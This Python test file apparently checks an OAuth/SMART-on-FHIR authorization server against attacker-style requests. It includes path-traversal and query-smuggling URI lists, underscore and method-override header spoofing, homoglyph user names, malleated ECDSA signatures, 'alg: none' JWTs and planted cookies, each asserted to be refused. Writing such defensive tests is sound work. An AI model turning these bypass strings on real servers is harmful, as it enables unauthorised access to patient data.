"""OWN: what the catalogue does not have, thought of as each attacker would; see ``catalogue.toml`` for who that is."""

from __future__ import annotations

import json
import re
import time
from base64 import urlsafe_b64decode
from dataclasses import replace
from functools import partial
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode

import pytest
from sqlalchemy import inspect, text

from authz.storage.recent import A_SECOND
from tests.actors import FORM, SmartApp, basic, new_verifier
from tests.attacks.live.jose import COORDINATE_BYTES, b64, compact, unsigned
from tests.attacks.live.people import (
    FORM_TOKEN,
    again,
    for_bob,
    my_apps,
    revoke_client,
    take_everything_back,
)
from tests.attacks.live.target import ALONE, LAUNCHED
from tests.messaging import SCOPE, Window
from tests.my_apps.test_story import LINK
from tests.servers import wait_until
from tests.world import APP, EHR_ORIGIN, FHIR, OTHER_FHIR

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from tests.attacks.live.target import Target
    from tests.transport import Reply

OFFLINE = f"{LAUNCHED} offline_access"
ONLINE = f"{LAUNCHED} patient/Patient.rs online_access"
P384 = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973
CREDENTIALS = {"grant_type": "client_credentials", "scope": "system/Patient.rs"}
SIGN_IN = 'name="password"'


def post(target: Target, path: str, form: dict[str, str] | str, headers: Any = None) -> Reply:
    body = form if isinstance(form, str) else urlencode(form)
    return target.send("POST", path, {"Content-Type": FORM, **(headers or {})}, body.encode())


def through(
    target: Target, token: str | None, uri: str, server: str = "main", method: str = "GET", **more: str
) -> Reply:
    """What a proxy asks about a request to a FHIR server."""
    headers = {"X-Original-Method": method, "X-Original-URI": uri, **more}
    return target.send(
        "GET", f"/forward-auth/{server}", headers | ({} if token is None else {"Authorization": f"Bearer {token}"})
    )


def test_an_app_can_tell_whose_answer_it_got(target: Target) -> None:
    """OWN-01, RFC 9207: against a mix-up of authorization servers."""
    document = target.send("GET", "/.well-known/oauth-authorization-server").json()
    assert document["authorization_response_iss_parameter_supported"] is True
    good = target.pub.launched(str(target.launch()["launch"]), LAUNCHED).location_parameters
    bad = target.ask(response_type="token").location_parameters
    assert {good["iss"], bad["iss"]} == {document["issuer"]} == {target.issuer}


def test_a_launch_of_one_tenant_opens_nothing_at_another(target: Target) -> None:
    """OWN-02: by its own app, with either audience."""
    handle = str(target.ehr2.launch("public", "Practitioner/dr", patient="A")["launch"])
    target.redirected(target.pub.launched(handle, LAUNCHED), "invalid_request")
    elsewhere = replace(target.pub, aud=OTHER_FHIR)
    token = elsewhere.tokens(handle, "launch patient/Observation.rs")["access_token"]
    target.inactive(target.rs.ask(token))
    assert target.rs2.introspect(token)["aud"] == OTHER_FHIR


def test_a_token_for_one_fhir_server_passes_no_proxy_of_another(target: Target) -> None:
    """OWN-03: in both directions, though patient and paths are the same."""
    token = target.bought(scope="launch patient/Patient.rs")["access_token"]
    assert through(target, token, "/r4/Patient/A").status == 204
    assert through(target, token, "/r4/Patient/A", "other").status == 401
    handle = str(target.ehr2.launch("public", "Practitioner/dr", patient="A")["launch"])
    other = replace(target.pub, aud=OTHER_FHIR).tokens(handle, "launch patient/Patient.rs")["access_token"]
    assert through(target, other, "/r4/Patient/A", "other").status == 204
    assert through(target, other, "/r4/Patient/A").status == 401


def test_a_fhir_server_asks_and_does_nothing_else(target: Target) -> None:
    """OWN-04: no launch, no handle, no revocation, no token, no registration."""
    rs, tokens = basic("rs-main", "rs-main-secret"), target.bought(scope=OFFLINE)
    record = {"client_id": "public", "fhir_server": FHIR, "user": "Practitioner/dr", "patient": "A"}
    launch = target.send("POST", "/launch", {"Content-Type": "application/json", **rs}, json.dumps(record).encode())
    assert launch.status == 401
    for path, form in (
        ("/revoke", {"token": tokens["access_token"]}),
        ("/token", {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}),
        ("/token", CREDENTIALS),
        ("/web-messaging/introspect", {"handle": "x"}),
        ("/web-messaging/revoke", {"handle": "x"}),
    ):
        target.refused(post(target, path, form, rs), 401, "invalid_client")
    assert target.is_active(tokens["access_token"])


def test_an_ehr_launches_and_does_nothing_else(target: Target) -> None:
    """OWN-05."""
    ehr, tokens = basic("ehr-main", "ehr-main-secret"), target.bought(scope=OFFLINE)
    for path, form in (
        ("/introspect", {"token": tokens["access_token"]}),
        ("/revoke", {"token": tokens["access_token"]}),
        ("/token", {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}),
        ("/token", CREDENTIALS),
    ):
        target.refused(post(target, path, form, ehr), 401, "invalid_client")
    assert target.is_active(tokens["access_token"])


def test_two_grants_in_one_request_are_one(target: Target) -> None:
    """OWN-06: a refresh token beside a code, and a code beside a refresh token, stay as they were."""
    tokens = target.bought(scope=OFFLINE)
    code, other = (target.pub.code(str(target.launch()["launch"]), OFFLINE) for _ in range(2))
    both = target.pub.redeem(code, refresh_token=tokens["refresh_token"])
    assert both.status == 200
    assert both.json()["refresh_token"] != tokens["refresh_token"]
    refreshed = target.pub.refresh(tokens["refresh_token"], code=other, code_verifier=target.pub.verifier)
    assert refreshed.status == 200
    assert target.pub.redeem(other).status == 200


def test_a_code_is_for_its_own_app_and_run(target: Target) -> None:
    """OWN-07: injected where another verifier is expected, or sent by another app that knows the verifier."""
    code = target.pub.code(str(target.launch()["launch"]), LAUNCHED)
    run = replace(target.pub, verifier=new_verifier())
    target.refused(run.redeem(code), 400, "invalid_grant")
    for thief in (target.sec, target.key, target.native, target.asking):
        target.refused(replace(thief, verifier=target.pub.verifier).redeem(code), 400, "invalid_grant")
        reply = replace(thief, verifier=target.pub.verifier).redeem(code, redirect_uri=target.pub.redirect_uri)
        target.refused(reply, 400, "invalid_grant")
    assert target.pub.redeem(code).status == 200


def test_a_code_of_one_launch_does_not_finish_another(target: Target) -> None:
    """OWN-08: patient A's code in the run that waits for patient B."""
    first, second = (replace(target.pub, verifier=new_verifier()) for _ in range(2))
    of_a = first.code(str(target.launch(first)["launch"]), LAUNCHED)
    of_b = second.code(str(target.launch(second, patient="B")["launch"]), LAUNCHED)
    target.refused(second.redeem(of_a), 400, "invalid_grant")
    target.refused(first.redeem(of_b), 400, "invalid_grant")
    assert (first.redeem(of_a).json()["patient"], second.redeem(of_b).json()["patient"]) == ("A", "B")


def sign_in_otherwise(target: Target, browser: Any, name: str) -> None:
    """In another tab of the same browser."""
    page = browser.open(target.pub.authorize_url(scope=ALONE, prompt="login", state="another-tab"))
    browser.sign_in(page, name, f"{name}-password")


def test_a_page_for_one_person_is_of_no_use_for_another(target: Target) -> None:
    """OWN-09: alice's consent page is still open when bob signs in beside it."""
    browser, page = target.signed_in("alice", prompt="consent")
    assert 'value="allow"' in page.text
    sign_in_otherwise(target, browser, "bob")
    reply = browser.submit(page, press="allow")
    assert (reply.status in {400, 403}, reply.header("location")) == (True, None)


def test_an_interaction_from_before_a_sign_out_is_over(target: Target) -> None:
    """OWN-10: also for the same person after a new sign-in."""
    browser, page = target.signed_in("alice", prompt="consent")
    browser.submit(browser.open(f"{target.issuer}/logout"), press="sign_out")
    reply = browser.submit(page, press="allow")
    assert (reply.status in {400, 403}, reply.header("location")) == (True, None)
    sign_in_otherwise(target, browser, "alice")
    again_ = browser.submit(page, press="allow")
    assert "code=" not in (again_.header("location") or "")


def test_nobody_reads_or_ends_what_is_another_persons(target: Target) -> None:
    """OWN-11: apps, receipts, sessions, by addresses that bob has sent to alice."""
    tokens = target.pub.redeem(for_bob(target, ALONE)[1]).json()
    target.tokens_for_alice(ALONE)
    bob, alice = my_apps(target, "bob"), my_apps(target, "alice")
    links = LINK.findall(bob.request("GET", f"{target.issuer}/my-apps").text)
    links += re.findall(r'href="(/my-apps/receipt/[0-9a-f]+)"', bob.request("GET", f"{target.issuer}{links[0]}").text)
    for link in links:
        for path in (link, f"{link}/stop"):
            reply = alice.request("GET", f"{target.issuer}{path}")
            assert reply.status == 404
            assert "ZZ9" not in reply.text
    page = bob.request("GET", f"{target.issuer}/my-apps/sessions").text
    keys = set(re.findall(r'name="end" value="([^"]+)"', page)) - {"all", "others"}
    hers = FORM_TOKEN.findall(alice.request("GET", f"{target.issuer}/my-apps/sessions").text)[0]
    for key in keys:
        alice.request(
            "POST",
            f"{target.issuer}/my-apps/sessions",
            urlencode({"form": hers, "end": key}).encode(),
            {"Content-Type": FORM},
        )
    assert bob.request("GET", f"{target.issuer}/my-apps").status == 200
    assert target.is_active(tokens["access_token"])


def test_a_planted_cookie_does_not_mix_two_people(target: Target) -> None:
    """OWN-12: the own and a planted one, in either order; whose page it is, the code is theirs or there is none."""
    victim, page = target.signed_in("alice", prompt="consent")
    attacker, _ = target.signed_in("bob")
    fields = dict(re.findall(r'name="(interaction)" value="([^"]+)"', page.text))
    body = urlencode({**fields, "action": "allow"}).encode()
    mine, planted = victim.cookies, attacker.cookies["authz_session"]
    for value in (
        f"{planted}; authz_session={mine['authz_session']}",
        f"{mine['authz_session']}; authz_session={planted}",
    ):
        cookie = f"authz_browser={mine['authz_browser']}; authz_session={value}"
        reply = target.send("POST", "/consent", {"Content-Type": FORM, "Cookie": cookie}, body)
        if reply.status in {302, 303} and "code" in reply.location_parameters:
            told = target.rs.introspect(target.pub.redeem(reply.location_parameters["code"]).json()["access_token"])
            assert (told["patient"], told["fhirUser"]) == ("A", f"{FHIR}/Patient/A")
        else:
            assert reply.status in {303, 400, 403}


TOLD_TWICE: list[list[tuple[str, str]]] = [
    [("X-Original-Method", "GET"), ("X-Original-URI", "/r4/Patient/A"), ("X-Forwarded-Method", "GET")],
    [("X-Original-Method", "GET"), ("X-Original-URI", "/r4/Patient/A"), ("X-Forwarded-Uri", "/r4/metadata")],
    [("X-Original-Method", "GET"), ("X-Original-URI", "/r4/metadata"), ("X-Original-URI", "/r4/Patient/B")],
    [("X-Original-Method", "GET"), ("X-Original-Method", "DELETE"), ("X-Original-URI", "/r4/Patient/A")],
    [("X_Original_Method", "GET"), ("X_Original_URI", "/r4/metadata")],
    [("X-Original-URI", "/r4/metadata")],
    [("X-Original-Method", "GET")],
    [("X-Forwarded-Method", "OPTIONS"), ("X-Original-URI", "/r4/Patient/A")],
    [("X-Original-Method", ""), ("X-Original-URI", "")],
    [("X-Authz-Proxy", "envoy"), ("X-Original-Method", "GET"), ("X-Original-URI", "/r4/Patient/B")],
]


@pytest.mark.parametrize("headers", TOLD_TWICE, ids=lambda headers: " ".join(name for name, _ in headers))
def test_what_a_proxy_was_asked_is_told_in_one_way(target: Target, headers: list[tuple[str, str]]) -> None:
    """OWN-13."""
    token = target.bought(scope="launch patient/*.rs")["access_token"]
    for path in ("/forward-auth/main", "/forward-auth/main/r4/metadata"):
        reply = target.send("GET", path, [*headers, ("Authorization", f"Bearer {token}")])
        assert reply.status in {400, 403, 404, 405}, reply
        assert reply.header("x-authz-patient") is None


AS_ANOTHER = (
    "X_HTTP_Method_Override",
    "X-HTTP_Method-Override",
    "x_method_override",
    "X_Cascade",
    "If_None_Exist",
    "A_b",
)


@pytest.mark.parametrize("name", AS_ANOTHER)
def test_no_header_gets_past_under_the_name_of_another(target: Target, name: str) -> None:
    """OWN-13, RFC 3875 §4.1.18: Traefik passes it on as it came, and what reads headers as CGI does obeys."""
    token = target.bought(scope="launch patient/*.rs")["access_token"]
    asked = {"X-Forwarded-Method": "GET", "X-Forwarded-Uri": "/r4/Patient/A", "Authorization": f"Bearer {token}"}
    assert target.send("GET", "/forward-auth/main", asked).status == 204
    reply = target.send("GET", "/forward-auth/main", {**asked, name: "DELETE"})
    assert (reply.status, reply.header("x-authz-patient")) == (403, None)
    assert "underscore" in str(reply.header("x-authz-reason"))


def test_a_header_with_an_underscore_is_nothing_elsewhere(target: Target) -> None:
    """OWN-14: it is not read, under whatever name, and who sends one is answered as anybody."""
    token = target.bought()["access_token"]
    headers = {"X_Forwarded_For": "127.0.0.1", "Content_Length": "9", "Transfer_Encoding": "chunked", "SM_USER": "a"}
    assert target.send("GET", "/healthz", headers).status == 200
    asked = {"X-Original-Method": "GET", "X-Original-URI": "/r4/Patient/A"}
    reply = target.send("GET", "/forward-auth/main", {**asked, "Author_ization": f"Bearer {token}"})
    assert (reply.status, reply.header("x-authz-patient")) == (403, None)
    reply = target.send("GET", "/userinfo", {"Author_ization": f"Bearer {token}"})
    assert reply.status == 401


def test_only_a_trusted_proxy_is_told_what_a_token_may(target: Target) -> None:
    """OWN-14: a stranger who claims to come from it is told nothing, with a good token or none."""
    token = target.bought()["access_token"]
    for claimed in ({}, {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}, {"Forwarded": "for=127.0.0.1"}):
        for uri in ("/r4/Patient/A", "/r4/metadata"):
            headers = {"X-Original-Method": "GET", "X-Original-URI": uri, "Authorization": f"Bearer {token}", **claimed}
            reply = target.stranger.send("GET", "/forward-auth/main", headers)
            assert (reply.status, reply.header("x-authz-patient")) == (403, None)


SPELLINGS = (
    *("/r4/Patient/B", "/r4/Patient/A/../B", "/r4/Patient/%2e%2e/Patient/B", "/r4//Patient/B", "/r4/Patient//B"),
    *("/r4/Patient/A%2f..%2fB", "/r4/Patient/A/..;/B", "/r4/Patient;x=/B", "/r4/Patient/B%00", "/r4/Patient/B%20"),
    *("https://fhir.example/r4/Patient/B", "//evil.example/r4/Patient/B", "/r4/Patient/B#/r4/metadata", "r4/Patient/B"),
    *(
        "/r4/metadata/../Patient/B",
        "/r4/metadata%2f..%2fPatient/B",
        "/r4\\Patient\\B",
        "/R4/Patient/B",
        "/r4/patient/B",
    ),
    *(
        "/r4/Observation?patient=A&patient=B",
        "/r4/Observation?patient=A,B",
        "/r4/Observation?patient=A&subject=Patient/B",
    ),
    *("/r4/Observation?patient=Patient/B", "/r4/Observation?patient%3Aidentifier=x", "/r4/Observation?%70atient=B"),
    *("/r4/Observation?patient=A&_include=Observation:subject:Patient", "/r4/Observation?patient=A&_has:x:y:z=1"),
    *("/r4/Patient/A/$everything?_type=Observation", "/r4/$graphql?query={PatientList{id}}", "/r4/?_type=Patient"),
    *("/r4/Patient?_id=A,B", "/r4/Observation?patient=A&_revinclude=*", "/r4/Observation/_history", "/r4/_history"),
    *("/r4/Observation?patient=A%26patient%3DB", "/r4/Observation?patient=A;patient=B", "/r4/Observation?"),
)


@pytest.mark.parametrize("uri", SPELLINGS)
def test_no_spelling_leads_to_another_patient(target: Target, uri: str) -> None:
    """OWN-15: a token for patient A; many more are behind a real proxy in test_leaks."""
    token = target.bought(scope="launch patient/Observation.rs patient/Patient.rs")["access_token"]
    reply = through(target, token, uri)
    assert reply.status in {400, 403, 404, 405, 503}, reply
    assert through(target, token, "/r4/Patient/A").status == 204


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_no_header_changes_a_method(target: Target, name: str) -> None:
    """OWN-16: at a proxy and at our own endpoints, nor does a parameter."""
    token = target.bought(scope="launch patient/Patient.rs")["access_token"]
    for method in ("DELETE", "PUT", "PATCH", "POST"):
        assert through(target, token, "/r4/Patient/A", **{name: method}).status in {400, 403}
        assert through(target, token, "/r4/Patient/A", method=method).status in {400, 403, 405}
    registered = target.vendor.register()
    path = registered["registration_client_uri"]
    bearer = {"Authorization": f"Bearer {registered['registration_access_token']}"}
    assert target.send("GET", path, {**bearer, name: "DELETE"}).status == 200
    assert target.send("GET", f"{path}?_method=DELETE", bearer).status in {200, 400}
    assert target.send("GET", path, bearer).status == 200


PATHS = (
    *(
        "//token",
        "/token/",
        "/%74oken",
        "/TOKEN",
        "/token;x",
        "/./token",
        "/x/../token",
        "/static/../token",
        "/token//",
    ),
    *("/token%00", "/token%2f", "/token%20", "\\token", "/token.json", "//evil.example/token", "/token%3f"),
)


@pytest.mark.parametrize("path", PATHS)
def test_another_spelling_of_an_address_opens_no_other_rules(target: Target, path: str) -> None:
    """OWN-17: a refusal in JSON or nothing there; no redirect, no foreign origin that may read."""
    form = urlencode({"grant_type": "refresh_token", "refresh_token": "x", "client_id": "public"}).encode()
    for origin in ("https://evil.example", APP):
        reply = target.send("POST", path, {"Content-Type": FORM, "Origin": origin}, form)
        assert reply.status in {400, 404, 405}, reply
        assert reply.header("location") is None
        assert reply.header("access-control-allow-origin") in {None, APP if origin == APP else None}


@pytest.mark.parametrize(
    ("path", "form"),
    [
        ("/introspect", {"token": "x"}),
        ("/revoke", {"token": "x", "client_id": "public"}),
        ("/login", {"interaction": "x", "username": "alice", "password": "x"}),
        ("/consent", {"interaction": "x", "action": "allow"}),
        ("/select-patient", {"interaction": "x", "patient": "A"}),
        ("/web-messaging/introspect", {"handle": "x"}),
        ("/logout", {"client_id": "public"}),
    ],
)
def test_a_query_beside_a_form_is_refused(target: Target, path: str, form: dict[str, str]) -> None:
    """OWN-18: with the same names, which might win, and with others."""
    headers = basic("rs-main", "rs-main-secret") if path == "/introspect" else {}
    headers |= basic("ehr-main", "ehr-main-secret") if path.startswith("/web") else {}
    for query in (urlencode(form), "x=y"):
        assert post(target, f"{path}?{query}", form, headers).status == 400


def test_of_consent_taken_back_and_codes_redeemed_nothing_lives(target: Target) -> None:
    """OWN-19: five rounds; whoever was first."""
    app = replace(target.pub, transport=target.crowd)
    for _ in range(5):
        target.store.forget_tries()
        codes = [for_bob(target, f"{ALONE} offline_access")[1] for _ in range(2)]
        redeeming = [partial(app.redeem, code) for code in codes for _ in range(3)]
        for reply in beside(target, redeeming, partial(take_everything_back, target, "bob")):
            if reply.status == 200:
                assert not target.is_active(reply.json()["access_token"])
                target.refused(target.pub.refresh(reply.json()["refresh_token"]), 400, "invalid_grant")


def beside(target: Target, asks: Sequence[Callable[[], Reply]], job: Callable[[], None]) -> list[Reply]:
    """The answers to what is asked while the job is done."""
    replies: list[Reply] = []

    def keep(ask: Callable[[], Reply]) -> None:
        replies.append(ask())

    def do() -> None:
        with target.app.app_context():
            job()

    jobs: list[Callable[[], None]] = [*(partial(keep, ask) for ask in asks), do]
    target.at_once(jobs)
    return replies


def test_of_a_client_switched_off_and_tokens_refreshed_nothing_lives(target: Target) -> None:
    """OWN-20."""
    app = replace(target.pub, transport=target.crowd)
    pairs = [target.bought(scope=OFFLINE) for _ in range(6)]
    with again(target, client_id="public"):
        refreshing = [partial(app.refresh, pair["refresh_token"]) for pair in pairs]
        replies = beside(target, refreshing, partial(revoke_client, target, "public"))
        tokens = [pair["access_token"] for pair in pairs]
        tokens += [reply.json()["access_token"] for reply in replies if reply.status == 200]
        wait_until(lambda: not any(map(target.is_somewhere_active, tokens)), "every process to hear of it", 5)
        assert not any(map(target.is_active, tokens))


@pytest.mark.parametrize(
    "name",
    [
        *(
            "ALICE",
            "Alice",
            " alice",
            "alice ",
            "\uff41\uff4c\uff49\uff43\uff45",
            "alice\u200b",
            "\u0430lice",
            "alic\u0065\u0301",
        ),
        *("alice\u202e", "a\u00adlice", "alice\\", "alice'--", "alice*", "%61lice", "alice@hospital.example"),
    ],
)
def test_a_user_name_in_other_letters_is_nobody_else(target: Target, name: str) -> None:
    """OWN-21: with alice's password it is alice or nobody; with bob's password it is never alice."""
    browser = target.browser()
    page = browser.open(target.pub.authorize_url(scope=ALONE, prompt="login"))
    reply = browser.sign_in(page, name, "alice-password")
    if reply.status in {200, 303} and SIGN_IN not in reply.text:
        code = (
            browser.submit(reply, press="allow").location_parameters["code"]
            if reply.status == 200
            else reply.location_parameters["code"]
        )
        assert target.pub.redeem(code).json()["patient"] == "A"
    other = target.browser()
    page = other.open(target.pub.authorize_url(scope=ALONE, prompt="login"))
    assert other.sign_in(page, name, "bob-password").status in {400, 401}


def test_another_spelling_of_a_signature_is_no_new_assertion(target: Target) -> None:
    """OWN-22: ECDSA has two signatures for each, and base64url has unused bits; a jti is used up by either."""
    first = target.key.assertion()
    assert post(target, "/token", {**REFRESH, **target.key.proof(first)}).json()["error"] == "invalid_grant"
    signed, _, signature = first.rpartition(".")
    raw = urlsafe_b64decode(signature + "==")
    r, s = raw[:COORDINATE_BYTES], int.from_bytes(raw[COORDINATE_BYTES:])
    twin = f"{signed}.{b64(r + (P384 - s).to_bytes(COORDINATE_BYTES))}"
    for spelled in (twin, f"{first}=", f"{first}\n", f" {first}", first.replace("-", "+").replace("_", "/")):
        reply = post(target, "/token", {**REFRESH, **target.key.proof(spelled)})
        target.refused(reply, reply.status, "invalid_client", "invalid_request")


REFRESH = {"grant_type": "refresh_token", "refresh_token": "x"}


def test_an_assertion_with_doubled_members_is_refused(target: Target) -> None:
    """OWN-23: in header and payload, whichever of them is the good one."""
    good = json.dumps(target.key.claims()).encode()
    head = b'{"alg":"ES384","kid":"ES384","typ":"JWT"}'
    assert target.key.keys is not None
    sign = target.key.keys.sign("ES384")
    for header, payload in (
        (head, good[:-1] + b',"sub":"key2"}'),
        (head, b'{"sub":"key2",' + good[1:]),
        (head, good[:-1] + b',"exp":99999999999}'),
        (b'{"alg":"none",' + head[1:], good),
        (head[:-1] + b',"alg":"none"}', good),
        (head[:-1] + b',"kid":"RS384"}', good),
        (head, good + b" {}"),
        (head, b"\xef\xbb\xbf" + good),
        (head, good.decode().encode("utf-16")),
    ):
        reply = post(target, "/token", {**REFRESH, **target.key.proof(compact(header, payload, sign))})
        target.refused(reply, 401, "invalid_client")


def test_an_assertion_from_the_future_is_refused(target: Target) -> None:
    """OWN-24: iat and nbf ahead; an iat before there was time says nothing against it."""
    now = target.clock.seconds()
    ahead: list[dict[str, Any]] = [
        {"iat": now + 3600},
        {"nbf": now + 3600},
        {"iat": 1e300},
        {"nbf": 2**63},
        {"iat": True},
        {"nbf": []},
    ]
    for changes in ahead:
        reply = post(target, "/token", {**REFRESH, **target.key.proof(target.key.assertion(**changes))})
        target.refused(reply, 401, "invalid_client")
    for changes in ({"iat": -1}, {"iat": 0}, {"nbf": -1e300}):
        reply = post(target, "/token", {**REFRESH, **target.key.proof(target.key.assertion(**changes))})
        target.refused(reply, reply.status, "invalid_client", "invalid_grant")


def test_an_assertion_in_another_serialization_is_refused(target: Target) -> None:
    """OWN-25: JWS JSON, general and flattened; nested; detached; five parts."""
    protected, payload, signature = target.key.assertion().split(".")
    flat = {"protected": protected, "payload": payload, "signature": signature}
    general = {"payload": payload, "signatures": [{"protected": protected, "signature": signature}]}
    nested = compact({"alg": "none", "cty": "JWT"}, f"{protected}.{payload}.{signature}".encode(), unsigned)
    detached = f"{protected}..{signature}"
    for text_ in (json.dumps(flat), json.dumps(general), nested, detached, f"{protected}.{payload}.{signature}.x.y"):
        reply = post(target, "/token", {**REFRESH, **target.key.proof(text_)})
        target.refused(reply, 401, "invalid_client")


def test_an_assertion_for_one_endpoint_is_not_good_at_another(target: Target) -> None:
    """OWN-26: what a FHIR server or another endpoint could have got hold of buys no token."""
    for aud in (f"{target.issuer}/introspect", f"{target.issuer}/revoke", FHIR, f"{target.issuer}/register", "public"):
        reply = post(target, "/token", {**REFRESH, **target.key.proof(target.key.assertion(aud=aud))})
        target.refused(reply, 401, "invalid_client")


@pytest.mark.parametrize(
    "path", ["/jwks", "/.well-known/openid-configuration", "/fhir-servers/main/.well-known/smart-configuration"]
)
def test_what_may_be_cached_holds_nothing_of_the_request(target: Target, path: str) -> None:
    """OWN-27: whatever a cache does not look at changes nothing; errors are stored nowhere."""
    good = target.send("GET", path)
    for headers in (
        [("Host", "evil.example"), ("X-Forwarded-Host", "evil.example")],
        [("Cookie", "authz_session=x"), ("Authorization", "Bearer x"), ("Accept-Language", "xx")],
        [("X-HTTP-Method-Override", "POST"), ("X-Original-URL", "/x"), ("Range", "bytes=0-1")],
    ):
        same = target.send("GET", f"{path}?utm_content=x", headers)
        assert (same.status, same.body, same.header("cache-control")) == (200, good.body, good.header("cache-control"))
    missing = target.send("GET", f"{path}/x.css")
    assert (missing.status, missing.header("cache-control")) == (404, "no-store")
    told = post(target, "/token", REFRESH, {"Origin": APP})
    assert "Origin" in (told.header("vary") or "")
    private = target.alice.request("GET", f"{target.issuer}/my-apps/x.css")
    assert private.header("cache-control") == "no-store"


def test_no_made_up_word_of_a_provider_signs_anybody_out_or_in(target: Target) -> None:
    """OWN-28: logout tokens of nobody, of ours, unsigned; answers to a sign-in that nobody has begun."""
    browser, code = for_bob(target, f"{ALONE} online_access")
    tokens = target.pub.redeem(code).json()
    own = target.services.keyring.sign(
        {"iss": target.issuer, "aud": "public", "events": {EVENT: {}}, "sub": "x", "jti": "x"}
    )
    forged = compact(
        {"alg": "none", "typ": "logout+jwt"}, {"iss": "https://idp.example", "events": {EVENT: {}}}, unsigned
    )
    for provider in ("hospital", "main", "..", "x" * 300):
        for token in (own, forged, tokens["id_token"], "x", ""):
            reply = post(target, f"/back-channel-logout/{provider}", {"logout_token": token})
            assert reply.status in {400, 404}, reply
    for path in ("/sign-in/callback", "/sign-in/hospital", "/sign-in/hospital/callback"):
        reply = target.send("GET", f"{path}?{urlencode({'code': 'x', 'state': 'x', 'iss': 'https://idp.example'})}")
        assert (reply.status in {400, 404, 405}, reply.header("set-cookie")) == (True, None), reply
    assert target.is_active(tokens["access_token"])
    silent = browser.open(target.pub.authorize_url(scope=f"{ALONE} online_access", prompt="none"))
    assert "code" in silent.location_parameters


EVENT = "http://schemas.openid.net/event/backchannel-logout"


@pytest.mark.parametrize("name", ["resource", "aud", "audience", "fhir_server", "iss"])
def test_no_parameter_moves_a_token_to_another_fhir_server(target: Target, name: str) -> None:
    """OWN-29: at the redemption of a code and at a refresh."""
    code = target.pub.code(str(target.launch()["launch"]), OFFLINE)
    reply = target.pub.redeem(code, **{name: OTHER_FHIR})
    if reply.status != 200:
        target.refused(reply, 400, "invalid_target", "invalid_request")
        reply = target.pub.redeem(code)
    tokens = reply.json()
    again_ = target.pub.refresh(tokens["refresh_token"], **{name: OTHER_FHIR})
    for told in [tokens, *([again_.json()] if again_.status == 200 else [])]:
        target.inactive(target.rs2.ask(told["access_token"]))
        assert target.rs.introspect(told["access_token"])["aud"] == FHIR


def test_a_backend_service_stays_with_its_fhir_server(target: Target) -> None:
    """OWN-30: ``bulk`` is for main alone."""
    for resource in (OTHER_FHIR, f"{OTHER_FHIR}/", "https://evil.example/r4", "x", f"{FHIR}x", f"{FHIR}/../other"):
        target.refused(target.bulk.post("/token", {**CREDENTIALS, "resource": resource}), 400, "invalid_target")
    both = urlencode([*CREDENTIALS.items(), *target.bulk.proof().items(), ("resource", FHIR), ("resource", OTHER_FHIR)])
    reply = post(target, "/token", both)
    if reply.status == 200:
        assert target.rs.introspect(reply.json()["access_token"])["aud"] == FHIR
    else:
        target.refused(reply, 400, "invalid_target", "invalid_request")


def test_a_token_of_a_service_is_no_person_and_no_ehr(target: Target) -> None:
    """OWN-31: and one with ``__launch`` speaks for its FHIR server only."""
    plain = target.bulk.post("/token", CREDENTIALS).json()["access_token"]
    target.refused(target.send("GET", "/userinfo", {"Authorization": f"Bearer {plain}"}), 403, "insufficient_scope")
    record = {"client_id": "public", "fhir_server": FHIR, "user": "Practitioner/dr", "patient": "A"}

    def launch(token: str, **changes: str) -> Reply:
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
        return target.send("POST", "/launch", headers, json.dumps({**record, **changes}).encode())

    target.refused(launch(plain), 403, "insufficient_scope")
    may = target.bulk.post("/token", {**CREDENTIALS, "scope": "__launch"}).json()["access_token"]
    assert launch(may).status == 201
    target.refused(launch(may, fhir_server=OTHER_FHIR), 403, "insufficient_scope")
    target.refused(target.ehr2.look_up(launch(may).json()["launch_id"]), 404, "not_found")


def test_what_stands_in_the_database_opens_nothing(target: Target) -> None:
    """OWN-32: every digest, sealed copy and id of the newest rows, used as what it stands for."""
    tokens = target.bought(scope=OFFLINE)
    Window(target.ehr, target.pub).handle(SCOPE)
    target.launch()
    read: set[str] = set()
    for table in (
        "access_token",
        "refresh_token",
        "authorization_code",
        "messaging_handle",
        "browser_session",
        "spent_launch",
    ):
        columns = [column["name"] for column in inspect(target.rows).get_columns(table)]
        row = target.rows.execute(text(f"SELECT * FROM {table}")).all()[-1]  # noqa: S608  a name of our own schema
        values = [
            value
            for name, value in zip(columns, row, strict=True)
            if "digest" in name or name in {"id", "jti", "grant_id", "sealed"}
        ]
        read |= {value.hex() if isinstance(value, bytes) else str(value) for value in values if value}
    for value in sorted(read)[:40]:
        target.inactive(target.rs.ask(value[:4_000]))
        target.refused(target.pub.redeem(value[:4_000]), 400, "invalid_grant")
        target.refused(target.pub.refresh(value[:4_000]), 400, "invalid_grant")
        assert Window(target.ehr, target.pub).check(value[:4_000]) == {"active": False}
        thief = target.browser()
        thief.cookies["authz_session"] = value[:128]
        assert SIGN_IN in thief.open(target.pub.authorize_url(scope=ALONE)).text
    assert target.is_active(tokens["access_token"])


def test_a_support_page_tells_nobody_about_whom(target: Target) -> None:
    """OWN-33: of a refusal that is about a patient, a user and a launch."""
    browser, page = target.signed_in("bob", prompt="consent")
    denied = browser.submit(page, press="deny")
    wider = target.pub.refresh(target.bought(scope=OFFLINE)["refresh_token"], scope="patient/*.cruds")
    for uri in (denied.location_parameters["error_uri"], wider.json()["error_uri"]):
        shown = target.browser().open(uri)
        assert shown.status == 200
        for name in ("ZZ9", "bob", "Patient/B", "Patient/A", "Practitioner/dr", ">A<", ">B<"):
            assert name not in shown.text, name


def test_a_sign_in_form_from_another_site_signs_nobody_in(target: Target) -> None:
    """OWN-34: an interaction of the attacker's browser, in the browser of the victim."""
    attacker = target.browser()
    page = attacker.open(target.pub.authorize_url(scope=ALONE))
    interaction = re.findall(r'name="interaction" value="([^"]+)"', page.text)[0]
    for origin in ({}, {"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "cross-site"}):
        reply = post(
            target, "/login", {"interaction": interaction, "username": "bob", "password": "bob-password"}, origin
        )
        assert (reply.status, reply.header("set-cookie"), reply.header("location")) == (400, None, None)


